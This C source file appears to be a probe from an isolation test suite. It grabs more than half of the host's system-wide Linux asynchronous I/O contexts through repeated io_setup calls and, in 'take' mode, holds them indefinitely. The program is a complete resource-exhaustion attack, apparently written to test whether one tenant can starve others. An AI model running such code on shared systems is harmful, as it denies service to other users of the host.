/* SPDX-License-Identifier: MIT */
#define _GNU_SOURCE
/*
 * aio take: take more than half of the asynchronous requests that the kernel allows all users
 * together; say so, and keep them.
 * aio left: on the host, is half of them left?
 */
#include "attack.h"

enum { AT_ONCE = 1024 };

int main(int argc, char *argv[])
{
	FILE *file = fopen("/proc/sys/fs/aio-max-nr", "re");
	unsigned long context = 0;
	long most, taken = 0;

	if (argc != 2 || !file || fscanf(file, "%ld", &most) != 1)
		return NOT_TRIED;
	while (taken <= most / 2 && !syscall(SYS_io_setup, AT_ONCE, &context)) {
		taken += AT_ONCE;
		context = 0;
	}
	puts("taken");
	fflush(stdout);
	if (!strcmp(argv[1], "take"))
		pause();
	return taken > most / 2 ? HELD : OUT;
}
